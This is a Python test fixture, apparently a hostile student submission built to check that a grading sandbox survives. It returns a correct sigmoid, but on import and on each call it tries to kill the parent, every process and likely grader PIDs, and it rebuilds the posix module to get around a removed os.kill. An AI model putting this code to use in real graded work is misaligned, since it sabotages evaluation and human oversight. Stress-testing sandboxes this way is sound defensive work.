"""Hostile but correct: try to kill the zygote (the parent), every process (kill -1), and the
grader (pid guesses), with os.kill removed and then through a fresh posix module.

Honest score: full marks (the values are right, the grading must survive).
"""
import os
import signal

import numpy as np

def _good(x):
    """A correct, stable sigmoid (what an honest student writes)."""
    x = np.asarray(x)
    x = x if x.dtype.kind == "f" else x.astype(np.float64)
    e = np.exp(-np.abs(x))
    return np.asarray(np.where(x >= 0, 1 / (1 + e), e / (1 + e)), dtype=x.dtype)


def _posix():
    """A fresh copy of the builtin posix module: the worker deleted fork/kill from the loaded one."""
    import importlib.machinery
    import importlib.util

    spec = importlib.machinery.BuiltinImporter.find_spec("posix")
    return importlib.util.module_from_spec(spec)


def _kill_everything():
    killers = [getattr(os, "kill", None)]
    try:
        killers.append(_posix().kill)
    except Exception:
        pass
    for kill in killers:
        if kill is None:
            continue
        for pid in (os.getppid(), 1, -1, *range(2, 64)):
            if pid == os.getpid():
                continue
            for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
                try:
                    kill(pid, sig)
                except Exception:
                    pass
    try:
        fd = os.pidfd_open(os.getppid())
        signal.pidfd_send_signal(fd, signal.SIGKILL)
    except Exception:
        pass


_kill_everything()


def sigmoid(x):
    _kill_everything()
    return _good(x)
